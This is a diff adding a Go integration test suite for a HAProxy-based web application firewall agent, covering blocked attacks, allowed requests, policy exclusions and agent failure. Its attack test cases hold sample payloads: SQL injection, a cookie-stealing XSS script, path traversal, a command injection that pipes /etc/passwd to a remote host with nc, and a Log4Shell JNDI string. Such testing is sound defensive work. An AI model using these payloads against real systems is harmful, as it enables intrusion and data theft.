@@ -1,0 +1,346 @@
+package agent_test
+
+import (
+	"bytes"
+	"cmp"
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/hapsnap/hapsnap/waf/agent"
+	"github.com/hapsnap/hapsnap/waf/policy"
+)
+
+// configuration is as a compiler writes it: two routes with a policy each way of failing, and the frontend that all
+// share. %[1]s is the folder, %[2]s the policy.
+const configuration = `
+global
+  maxconn 500
+defaults
+  mode http
+  timeout connect 5s
+  timeout client 30s
+  timeout server 30s
+frontend web
+  bind unix@%[1]s/web.sock
+  unique-id-format %%{+X}o%%ci-%%cp-%%rt
+  filter spoe engine waf config %[1]s/spoe.conf
+  acl open hdr(x-open) 1
+  http-request set-var-fmt(txn.waf_policy) '%[2]s'
+  http-request wait-for-body time 5s if { req.body_size gt 0 } or { req.hdr(transfer-encoding) -m found }
+  http-request set-var(txn.body_len) req.body_len
+  http-request deny deny_status 413 if { req.body_size,sub(txn.body_len) gt 0 }
+  http-request send-spoe-group waf inspect
+  http-request deny deny_status 403 if { var(txn.waf.action) -m str deny }
+  http-request deny deny_status 503 if !open !{ var(txn.waf.action) -m str allow detect }
+  http-request return status 200 content-type text/plain lf-string "%%[var(txn.waf.action)] %%[var(txn.waf.rule)] %%[var(txn.waf.score)]"
+backend hapsnap_waf
+  mode tcp
+  option spop-check
+  timeout connect 200ms
+  timeout server 3m
+  server agent unix@%[1]s/agent.sock check inter 100ms
+`
+
+const spoe = `[waf]
+spoe-agent waf
+  groups inspect
+  option var-prefix waf
+  option set-on-error error
+  register-var-names action status rule score error
+  timeout hello 500ms
+  timeout idle 2m
+  timeout processing 10s
+  use-backend hapsnap_waf
+spoe-message request
+  args policy=var(txn.waf_policy) rules=str("` + policy.RulesVersion + `") id=unique-id src=src src-port=src_port method=method path=path query=query version=req.ver host=req.hdr(host) headers=req.hdrs body=req.body body-size=req.body_size route=fe_name
+spoe-group inspect
+  messages request
+`
+
+// site is a HAProxy that asks an agent.
+type site struct {
+	folder string
+	client *http.Client
+	stop   context.CancelFunc // of the agent
+	ended  chan error
+	audit  *locked
+}
+
+type locked struct {
+	sync.Mutex
+	bytes.Buffer
+}
+
+func (l *locked) Write(p []byte) (int, error) {
+	l.Lock()
+	defer l.Unlock()
+	return l.Buffer.Write(p)
+}
+
+func (l *locked) text() string {
+	l.Lock()
+	defer l.Unlock()
+	return l.String()
+}
+
+func start(t *testing.T, p policy.Policy) *site {
+	t.Helper()
+	folder, err := os.MkdirTemp("", "waf") //nolint:usetesting // the path of a socket has to be short
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(folder) })
+	if err := p.Check(); err != nil {
+		t.Fatal(err)
+	}
+	for name, text := range map[string]string{"haproxy.cfg": fmt.Sprintf(configuration, folder, p), "spoe.conf": spoe} {
+		if err := os.WriteFile(filepath.Join(folder, name), []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	program := cmp.Or(os.Getenv("HAPROXY"), "haproxy")
+	if out, err := exec.CommandContext(t.Context(), program, "-c", "-q", "-f", filepath.Join(folder, "haproxy.cfg")).CombinedOutput(); err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	var said locked
+	cmd := exec.CommandContext(t.Context(), program, "-db", "-f", filepath.Join(folder, "haproxy.cfg"))
+	cmd.Stdout, cmd.Stderr = &said, &said
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = cmd.Process.Kill()
+		_ = cmd.Wait()
+		if t.Failed() {
+			t.Log(said.text())
+		}
+	})
+	s := &site{folder: folder, audit: &locked{}, client: &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
+		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
+			return new(net.Dialer).DialContext(ctx, "unix", folder+"/web.sock")
+		},
+	}}}
+	s.startAgent(t)
+	t.Cleanup(func() { s.stopAgent(t) })
+	s.wait(t, http.StatusOK)
+	return s
+}
+
+func (s *site) startAgent(t *testing.T) {
+	t.Helper()
+	ctx, stop := context.WithCancel(context.Background())
+	listener, err := new(net.ListenConfig).Listen(ctx, "unix", s.folder+"/agent.sock")
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := agent.New(agent.Options{Audit: s.audit, Deadline: 9 * time.Second})
+	s.stop, s.ended = stop, make(chan error, 1)
+	go func() { s.ended <- a.Run(ctx, listener) }()
+}
+
+func (s *site) stopAgent(t *testing.T) {
+	t.Helper()
+	if s.stop != nil {
+		s.stop()
+		s.stop = nil
+		if err := <-s.ended; err != nil {
+			t.Error(err)
+		}
+	}
+}
+
+// wait asks until the answer has a status.
+func (s *site) wait(t *testing.T, status int) {
+	t.Helper()
+	for deadline := time.Now().Add(30 * time.Second); ; {
+		got, _ := s.ask(t, ordinary("GET", "/", ""))
+		if got == status {
+			return
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the answer is %d, and not %d", got, status)
+		}
+	}
+}
+
+// ordinary is a request as a browser sends it. The first word of a header's line is its name.
+func ordinary(method, path, body string, headers ...string) *http.Request {
+	request, err := http.NewRequest(method, "http://shop.example.com"+path, strings.NewReader(body))
+	if err != nil {
+		panic(err)
+	}
+	request.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
+	request.Header.Set("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8")
+	request.Header.Set("Accept-Language", "en-US,en;q=0.5")
+	for _, header := range headers {
+		name, value, _ := strings.Cut(header, ": ")
+		request.Header.Set(name, value)
+	}
+	return request
+}
+
+func (s *site) ask(t *testing.T, request *http.Request) (int, string) {
+	t.Helper()
+	response, err := s.client.Do(request)
+	if err != nil {
+		return 0, err.Error()
+	}
+	defer response.Body.Close()
+	text, err := io.ReadAll(response.Body)
+	if err != nil {
+		return 0, err.Error()
+	}
+	return response.StatusCode, string(text)
+}
+
+const (
+	form = "Content-Type: application/x-www-form-urlencoded"
+	json = "Content-Type: application/json"
+)
+
+// get is a request with a query that is encoded as a browser does.
+func get(path, parameter, value string) *http.Request {
+	return ordinary("GET", path+"?"+url.Values{parameter: {value}}.Encode(), "")
+}
+
+func filler(n int) string { return strings.Repeat("Lorem ipsum dolor sit amet ", n/27+1)[:n] }
+
+// Attacks are denied through a real HAProxy, wherever in the request they are. The audit log says why.
+func TestAttacks(t *testing.T) {
+	t.Parallel()
+	s := start(t, policy.Policy{Engine: policy.Block})
+	const script = "<script>alert(document.cookie)</script>"
+	for name, request := range map[string]*http.Request{
+		"SQL in the query": get("/", "id", "1' OR '1'='1' UNION SELECT password FROM users--"),
+		"SQL in a form":    ordinary("POST", "/", url.Values{"id": {"1' or 1=1 union select 1,2,3 -- -"}}.Encode(), form),
+		"SQL in JSON":      ordinary("POST", "/", `{"user":{"name":"x' or 1=1 union select 1,2 -- -"}}`, json),
+		"SQL in a cookie":  ordinary("GET", "/", "", "Cookie: id=1' or 1=1 union select 1,2,3 -- -"),
+		"XSS in the query": get("/", "q", script),
+		"XSS in XML":       ordinary("POST", "/", "<?xml version=\"1.0\"?><a><b><![CDATA["+script+"]]></b></a>", "Content-Type: text/xml"),
+		"XSS in multipart": ordinary("POST", "/", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"+script+"\r\n--xyz--\r\n", "Content-Type: multipart/form-data; boundary=xyz"),
+		"XSS after 13 kB":  ordinary("POST", "/", url.Values{"a": {filler(13 << 10)}, "b": {script}}.Encode(), form),
+		"path traversal":   get("/", "file", "../../../../etc/passwd"),
+		"remote command":   get("/", "host", "8.8.8.8; cat /etc/passwd | nc 192.0.2.1 4444"),
+		"Log4Shell":        ordinary("GET", "/", "", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}"),
+		"scanner":          ordinary("GET", "/", "", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"),
+		"response split":   ordinary("GET", "/?u=%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a%3Chtml%3E", ""),
+		"no JSON":          ordinary("POST", "/", `{"a":`, json),
+	} {
+		if status, text := s.ask(t, request); status != http.StatusForbidden {
+			t.Errorf("%s: %d %s", name, status, text)
+		}
+	}
+	if status, _ := s.ask(t, ordinary("POST", "/", url.Values{"a": {filler(40 << 10)}, "b": {script}}.Encode(), form)); status != http.StatusRequestEntityTooLarge {
+		t.Errorf("40 kB: %d", status)
+	}
+	s.stopAgent(t) // the log is whole then
+	audit := s.audit.text()
+	for _, want := range []string{`"action":"deny"`, `"id":942100`, `"attack-sqli"`, `"target":"ARGS:`, `"host":"shop.example.com"`, `"policy":"` + policy.Policy{Engine: policy.Block}.Digest() + `"`} {
+		if !strings.Contains(audit, want) {
+			t.Errorf("no %s in the audit log:\n%s", want, audit)
+		}
+	}
+	for _, secret := range []string{"union select 1,2,3", "Lorem ipsum dolor sit"} {
+		if strings.Contains(audit, secret) {
+			t.Errorf("%s is in the audit log", secret)
+		}
+	}
+}
+
+// Ordinary requests pass, and what is found in detection is reported, and passes too.
+func TestOrdinaryRequests(t *testing.T) {
+	t.Parallel()
+	s := start(t, policy.Policy{Engine: policy.Block})
+	for name, request := range map[string]*http.Request{
+		"page":      ordinary("GET", "/shop/list?page=2&sort=price&q=red+shoes", ""),
+		"apostroph": get("/search", "q", "O'Brien & sons"),
+		"login":     ordinary("POST", "/login", url.Values{"user": {"jane@example.com"}, "password": {"correct horse battery"}}.Encode(), form),
+		"JSON":      ordinary("PUT", "/api/items/1", `{"name":"Chair","price":12.5,"tags":["wood","red"],"text":"A chair, for 4 people - or 5."}`, json),
+		"empty":     ordinary("DELETE", "/api/items/1", "", json),
+		"options":   ordinary("OPTIONS", "/api/items", ""),
+		"upload":    ordinary("POST", "/upload", "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--xyz--\r\n", "Content-Type: multipart/form-data; boundary=xyz"),
+		"13 kB":     ordinary("POST", "/", url.Values{"a": {filler(13 << 10)}}.Encode(), form),
+	} {
+		want := http.StatusOK
+		if request.Method == "PUT" || request.Method == "DELETE" {
+			want = http.StatusForbidden // 911100: the Core Rule Set allows GET, HEAD, POST and OPTIONS by itself
+		}
+		if status, text := s.ask(t, request); status != want {
+			t.Errorf("%s: %d %s", name, status, text)
+		}
+	}
+}
+
+// A policy that detects, and exclusions of rules, tags and targets, do what they say.
+func TestPolicies(t *testing.T) {
+	t.Parallel()
+	const attack = "1' or 1=1 union select 1,2,3 -- -"
+	for name, c := range map[string]struct {
+		policy  policy.Policy
+		request *http.Request
+		status  int
+		text    string
+	}{
+		"detect":            {policy.Policy{}, get("/", "q", attack), http.StatusOK, "detect 942100"},
+		"target":            {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Tags: []string{"attack-sqli"}, Targets: []string{"ARGS:q"}}}}, get("/", "q", attack), http.StatusOK, "allow"},
+		"another target":    {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Tags: []string{"attack-sqli"}, Targets: []string{"ARGS:r"}}}}, get("/", "q", attack), http.StatusForbidden, ""},
+		"targets by prefix": {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Rules: []string{"942000-942999"}, Targets: []string{"ARGS:user[*"}}}}, get("/", "user[name]", attack), http.StatusOK, "allow"},
+		"tag":               {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Tags: []string{"attack-sqli"}}}}, get("/", "q", attack), http.StatusOK, "allow"},
+		"threshold":         {policy.Policy{Engine: policy.Block, Threshold: 1000}, get("/", "q", attack), http.StatusOK, "allow 942100"},
+		"method":            {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Rules: []string{"911100"}}}}, ordinary("PUT", "/", `{}`, json), http.StatusOK, "allow"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			s := start(t, c.policy)
+			if status, text := s.ask(t, c.request); status != c.status || c.status == http.StatusOK && !strings.HasPrefix(text, c.text) {
+				t.Errorf("%d %s, want %d %s", status, text, c.status, c.text)
+			}
+		})
+	}
+}
+
+// An agent that ends under load leaves no request hanging: those of a closed route get 503, those of an open one pass,
+// and all is well again when it is back.
+func TestAgentEnds(t *testing.T) {
+	t.Parallel()
+	s := start(t, policy.Policy{Engine: policy.Block})
+	ctx, stop := context.WithCancel(t.Context())
+	var load sync.WaitGroup
+	var lock sync.Mutex
+	seen := map[int]int{}
+	for range 4 {
+		load.Go(func() {
+			for ctx.Err() == nil {
+				status, _ := s.ask(t, ordinary("GET", "/", ""))
+				lock.Lock()
+				seen[status]++
+				lock.Unlock()
+			}
+		})
+	}
+	s.stopAgent(t)
+	s.wait(t, http.StatusServiceUnavailable)
+	if status, text := s.ask(t, ordinary("GET", "/", "", "X-Open: 1")); status != http.StatusOK {
+		t.Errorf("open: %d %s", status, text)
+	}
+	s.startAgent(t)
+	s.wait(t, http.StatusOK)
+	stop()
+	load.Wait()
+	for status := range seen {
+		if status != http.StatusOK && status != http.StatusServiceUnavailable {
+			t.Errorf("%d requests ended with %d", seen[status], status)
+		}
+	}
+}
